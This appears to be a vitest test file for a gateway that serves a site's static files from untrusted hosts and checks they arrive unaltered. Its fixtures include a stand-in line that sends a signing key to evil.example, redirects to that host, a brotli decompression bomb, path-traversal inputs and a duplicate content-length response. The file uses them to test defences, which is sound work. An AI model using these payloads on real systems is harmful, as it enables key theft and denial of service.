import {once} from 'node:events'
import {type IncomingMessage, type RequestListener, request, type ServerResponse} from 'node:http'
import {brotliCompressSync, brotliDecompressSync, constants} from 'node:zlib'
import {afterEach, describe, expect, it} from 'vitest'
import type {ConductReport} from '../../src/core/protocol/conduct.ts'
import {endless, listedFiles} from '../support/asset-list.ts'
import type {FakeMiner} from '../support/fake-miner.ts'
import {type Answer, type GatewayWorld, openGatewayWorld} from '../support/gateway-world.ts'

const SCRIPT = `export const sign = (key) => key.sign()\n${'// padding\n'.repeat(2000)}`
const EVIL = 'fetch("//evil.example/" + key)'
const files = listedFiles({
  '/index.html': {type: 'text/html; charset=utf-8', body: '<!doctype html><script type="module" src="./assets/keys-1.js"></script>'},
  '/assets/keys-1.js': {type: 'text/javascript; charset=utf-8', body: SCRIPT},
  '/assets/old-1.js': {type: 'text/javascript; charset=utf-8', body: SCRIPT.replace('key.sign', 'old.sign')},
  '/service-worker.js': {type: 'text/javascript; charset=utf-8', body: 'self.skipWaiting()'},
  '/medium.png': {type: 'image/png', body: Buffer.alloc(50_000, 'creo')},
  '/large.png': {type: 'image/png', body: Buffer.alloc(3 * 2 ** 20, 'creo')}
})
const KEYS = '/assets/keys-1.js'

let world: GatewayWorld

const opened: GatewayWorld[] = []

afterEach(async () => {
  for (const one of opened.splice(0)) {
    await one.close()
    expect(one.fatal).toEqual([])
  }
})

/** Serves the files as they are, and counts. */
function honest(): {serve: RequestListener; asked: IncomingMessage[]} {
  const asked: IncomingMessage[] = []
  return {
    asked,
    serve: (incoming, response) => {
      asked.push(incoming)
      const body = files.bodies.get(incoming.url ?? '')
      response.writeHead(body === undefined ? 404 : 200).end(body)
    }
  }
}

async function openWorld(options: Parameters<typeof openGatewayWorld>[0] = {}): Promise<void> {
  world = await openGatewayWorld(options)
  opened.push(world)
}

/** A world whose `site` serves the listed files; `api` answers beside it. */
async function openPages(options: Parameters<typeof openGatewayWorld>[0] = {}): Promise<void> {
  await openWorld(options)
  const [site] = world.table.revisions
  if (site !== undefined) site.spec = {...site.spec, assets: files.ref}
  world.publish()
}

/** A host that runs the page already and lies about one file from now on, and an honest one that could run it. */
async function liarBeside(lie: (response: ServerResponse) => void, path = KEYS): Promise<{liar: FakeMiner; other: FakeMiner}> {
  const {serve} = honest()
  const liar = await world.addMiner({serve: (asked, response) => (asked.url === path ? lie(response) : serve(asked, response))})
  expect((await world.ask('/', {method: 'HEAD'})).status).toBe(200)
  const other = await world.addMiner({serve})
  return {liar, other}
}

const changed = Buffer.from(SCRIPT.replace('key.sign()', 'evil(key )'))
const BOMB = brotliCompressSync(Buffer.alloc(2 ** 24), {params: {[constants.BROTLI_PARAM_QUALITY]: 1}})
const LIES: readonly [string, (response: ServerResponse) => void][] = [
  ['a changed script of the same length', (response) => response.end(changed)],
  ['a longer script', (response) => response.end(SCRIPT + EVIL)],
  ['a script without end', (response) => endless(response, SCRIPT)],
  ['a script that ends early', (response) => response.writeHead(200, {'transfer-encoding': 'chunked'}).end(SCRIPT.slice(0, 5000))],
  ['nothing at all', (response) => response.end()],
  ['another listed file', (response) => response.end(files.bodies.get('/assets/old-1.js'))],
  [
    'the same file, compressed, as if that were asked',
    (response) => response.setHeader('content-encoding', 'br').end(files.bodies.get(`${KEYS}.br`))
  ],
  ['a bomb', (response) => response.setHeader('content-encoding', 'br').end(BOMB)],
  ['a redirect', (response) => response.writeHead(302, {location: '//evil.example/keys.js'}).end()],
  ['an error page of its own', (response) => response.writeHead(404, {'content-type': 'text/html'}).end(`<script>${EVIL}</script>`)]
]
const FAILURES: readonly [string, (response: ServerResponse) => void][] = [
  ['breaks off', (response) => void response.writeHead(200, {'content-type': 'text/html'}).write(EVIL, () => response.destroy())],
  ['fails', (response) => response.writeHead(500, {'content-type': 'text/html'}).end(EVIL)],
  ['speaks in two ways', (response) => response.socket?.end('HTTP/1.1 200 OK\r\ncontent-length: 5\r\ncontent-length: 6\r\n\r\nevil!')]
]

describe('a page on the machines of strangers', () => {
  it.each(LIES)('is whole in the browser where a host answers %s', async (_what, lie) => {
    await openPages()
    await liarBeside(lie)
    const answer = await world.ask(KEYS)
    expect([answer.status, answer.body === SCRIPT]).toEqual([200, true])
    expect(headersOf(answer)).toMatchObject({
      'content-type': 'text/javascript; charset=utf-8',
      'cache-control': expect.stringContaining('immutable')
    })
  })

  it.each(FAILURES)('is refused, and nothing of it shown, where its only host %s', async (_what, fail) => {
    await openPages()
    const {serve} = honest()
    await world.addMiner({serve: (asked, response) => (asked.url === KEYS ? fail(response) : serve(asked, response))})
    const answer = await world.ask(KEYS)
    expect([answer.status, answer.headers['creo-error'], answer.body.includes('evil')]).toEqual([502, 'bad_gateway', false])
  })

  it("is refused where its host is slow beyond the function's timeout", async () => {
    await openPages({spec: {timeoutMs: 100}})
    const {serve} = honest()
    await world.addMiner({serve: (asked, response) => (asked.url === KEYS ? response.write('e') : serve(asked, response))})
    expect((await world.ask(KEYS)).headers['creo-error']).toBe('timeout')
  })

  it('gets nothing from its host but bytes: no header, no type, no word of who asks', async () => {
    await openPages()
    const {serve, asked} = honest()
    await world.addMiner({
      serve: (incoming, response) => {
        const rules = {
          'set-cookie': 'a=b',
          'service-worker-allowed': '/',
          link: '</x>; rel=preload',
          refresh: '0; url=//evil.example',
          'x-own': '1'
        }
        for (const [name, value] of Object.entries(rules)) response.setHeader(name, value)
        response.setHeader('content-type', 'text/html').setHeader('content-security-policy', 'default-src *').setHeader('etag', '"1"')
        serve(incoming, response)
      }
    })
    const answer = await world.ask('/?secret=1', {headers: {cookie: 'token=1', authorization: 'Bearer x', 'x-mine': '1'}})
    const {date: _date, etag, ...told} = headersOf(answer)
    expect(told).toEqual({
      'creo-revision': 'rev_1',
      'content-type': 'text/html; charset=utf-8',
      'cache-control': 'no-cache',
      'x-content-type-options': 'nosniff',
      'cross-origin-resource-policy': 'same-origin',
      'content-security-policy': "default-src 'self'",
      'referrer-policy': 'no-referrer',
      'permissions-policy': 'camera=(), microphone=(), geolocation=(), payment=()',
      'cross-origin-opener-policy': 'same-origin',
      vary: 'accept-encoding',
      'content-length': String(answer.body.length),
      connection: 'close'
    })
    expect(etag).not.toBe('"1"')
    expect(asked.map(({url, headers}) => [url, Object.keys(headers).sort()])).toEqual([
      ['/creo-assets.json', ['accept-encoding', 'connection', 'host']],
      ['/index.html', ['accept-encoding', 'connection', 'host']]
    ])
  })

  it('is refused with asset_tampered, and nothing of it shown, where every host lies', async () => {
    await openPages()
    const {liar, other} = await liarBeside((response) => response.end(changed))
    const answers = await Promise.all([world.ask(KEYS), world.ask(KEYS, {headers: {'accept-encoding': 'gzip'}})])
    expect(answers.map(({status}) => status)).toEqual([200, 200])
    expect([liar.running.size, other.running.size]).toEqual([0, 1])

    await openPages()
    await world.addMiner({serve: (asked, response) => (asked.url === KEYS ? response.end(changed) : honest().serve(asked, response))})
    const refused = await world.ask(KEYS)
    expect([refused.status, refused.headers['creo-error'], refused.body.includes('evil')]).toEqual([502, 'asset_tampered', false])
    expect((await world.ask(KEYS)).headers['creo-error']).toBe('no_instance')
  })

  it('is not served at all where a host changes the list', async () => {
    await openPages()
    const list = String(files.bodies.get('/creo-assets.json'))
    await world.addMiner({
      serve: (asked, response) => response.end(asked.url === '/creo-assets.json' ? list.replace('no', 'xx').replace('old', 'new') : EVIL)
    })
    const answer = await world.ask(KEYS)
    expect([answer.status, answer.headers['creo-error']]).toEqual([502, 'asset_tampered'])
  })

  it('has what its host changed told to the coordinator', async () => {
    const told = Promise.withResolvers<unknown>()
    const sink = {
      reportConduct: async (report: ConductReport) => (report.nodes.some(({failed}) => failed > 0) ? told.resolve(report.nodes) : undefined)
    }
    await openPages({conduct: {sink, everyMs: 200}})
    const {liar} = await liarBeside((response) => response.end(changed))
    await world.ask(KEYS)
    expect(await told.promise).toContainEqual(expect.objectContaining({node: liar.node, failed: 50}))
  })

  it('is not run again by a host that lied about it while another one can', async () => {
    await openPages()
    const {liar, other} = await liarBeside((response) => response.end(changed))
    await world.ask(KEYS)
    for (const instance of other.running.keys()) other.crash(instance)
    expect((await world.ask('/large.png')).status).toBe(200)
    expect([liar, other].map(({running, messages}) => [running.size, messages.filter(({type}) => type === 'start').length])).toEqual([
      [0, 1],
      [1, 2]
    ])
  })
})

describe('a listed file', () => {
  it('is asked of a host once, for all who want it and for those who come later', async () => {
    await openPages()
    const {serve, asked} = honest()
    await world.addMiner({serve})
    const bodies = await Promise.all(Array.from({length: 20}, () => world.ask(KEYS)))
    expect(new Set(bodies.map(({body}) => body))).toEqual(new Set([SCRIPT]))
    await world.ask(KEYS)
    expect(asked.map(({url}) => url)).toEqual(['/creo-assets.json', KEYS])
  })

  it('comes compressed to who takes that, and whole however large it is', async () => {
    await openPages()
    await world.addMiner({serve: honest().serve})
    const packed = await bytesOf(KEYS, {'accept-encoding': 'gzip, br;q=0.9'})
    expect([packed.encoding, brotliDecompressSync(packed.body).toString() === SCRIPT]).toEqual(['br', true])
    for (const coding of ['gzip', 'br;q=0', 'brotli', 'x-br'])
      expect((await bytesOf(KEYS, {'accept-encoding': coding})).encoding).toBeUndefined()
  })

  it('stays whole for whoever asks later, when it was sent before', async () => {
    await openPages()
    await world.addMiner({serve: honest().serve})
    for (const path of ['/large.png', '/medium.png', '/large.png', '/medium.png']) {
      const answers = await Promise.all([bytesOf(path, {}), bytesOf(path, {})])
      expect(answers.map(({body}) => body.equals(files.bodies.get(path) ?? Buffer.alloc(0)))).toEqual([true, true])
    }
  })

  it('is not sent again to who has it, and HEAD asks no host', async () => {
    await openPages()
    const {serve, asked} = honest()
    await world.addMiner({serve})
    const head = await world.ask(KEYS, {method: 'HEAD'})
    expect([head.status, head.body, head.headers['content-length']]).toEqual([200, '', String(SCRIPT.length)])
    const again = await world.ask(KEYS, {headers: {'if-none-match': `"x", W/${head.headers.etag}`}})
    expect([again.status, again.body, again.headers['content-security-policy']]).toEqual([304, '', "default-src 'self'"])
    expect(asked.map(({url}) => url)).toEqual(['/creo-assets.json'])
  })

  it('is all there is: of nothing else is a host asked', async () => {
    await openPages()
    const {serve, asked} = honest()
    await world.addMiner({serve})
    for (const path of [
      '/nothing.js',
      '/assets/',
      '/creo-assets.json',
      `${KEYS}.br`,
      '/assets/%6beys-1.js',
      '/assets/../index.html',
      '/__proto__'
    ])
      expect([path, await rawStatus(path)]).toEqual([path, 404])
    expect(asked.map(({url}) => url)).toEqual(['/creo-assets.json'])
  })

  it('is only read', async () => {
    await openPages()
    await world.addMiner({serve: honest().serve})
    expect((await world.ask('/', {method: 'POST', body: 'x'})).status).toBe(400)
  })
})

describe('a function beside a page', () => {
  it('answers data: neither a page nor a script, and nothing that rules over the origin', async () => {
    await openPages()
    await world.addMiner({
      serve: (_asked, response) =>
        response
          .writeHead(200, {
            'content-type': 'text/html',
            'content-length': 5,
            'set-cookie': 'a=b',
            'service-worker-allowed': '/',
            'clear-site-data': '"*"',
            'content-security-policy': 'default-src *',
            'alt-svc': 'h2="evil.example:443"',
            'speculation-rules': '"/x"',
            link: '</x>; rel=preload',
            refresh: '0; url=//evil.example',
            'cache-control': 'no-store'
          })
          .end('<p>hi')
    })
    const {'x-instance': _instance, date: _date, ...told} = headersOf(await world.ask('/api/x'))
    expect(told).toEqual({
      'creo-revision': 'rev_2',
      'content-type': 'text/plain; charset=utf-8',
      'content-length': '5',
      'cache-control': 'no-store',
      'x-content-type-options': 'nosniff',
      'content-security-policy': "sandbox; default-src 'none'; frame-ancestors 'none'",
      'cross-origin-resource-policy': 'same-origin',
      connection: 'close'
    })
  })

  it('is left as it is in an app without listed files', async () => {
    world = await openGatewayWorld()
    await world.addMiner({
      serve: (_asked, response) => response.writeHead(200, {'content-type': 'text/html', 'set-cookie': 'a=b'}).end('<p>')
    })
    const {headers} = await world.ask('/api')
    expect([headers['content-type'], headers['set-cookie'], headers['content-security-policy']]).toEqual(['text/html', ['a=b'], undefined])
  })
})

function headersOf({headers}: Answer): Record<string, string> {
  return Object.fromEntries(Object.entries(headers).map(([name, value]) => [name, String(value)]))
}

async function bytesOf(path: string, headers: Record<string, string>): Promise<{encoding: string | undefined; body: Buffer}> {
  const asked = request(`${world.gateway.publicUrl}${path}`, {agent: false, headers: {host: 'shop--acme.localhost', ...headers}}).end()
  const [response] = (await once(asked, 'response')) as [IncomingMessage]
  return {encoding: response.headers['content-encoding'], body: Buffer.concat(await response.toArray())}
}

/** The path as it is written, which a parser of addresses would mend. */
async function rawStatus(path: string): Promise<number | undefined> {
  const {hostname, port} = new URL(world.gateway.publicUrl)
  const asked = request({hostname, port, path, agent: false, headers: {host: 'shop--acme.localhost'}}).end()
  const [response] = (await once(asked, 'response')) as [IncomingMessage]
  response.resume()
  return response.statusCode
}
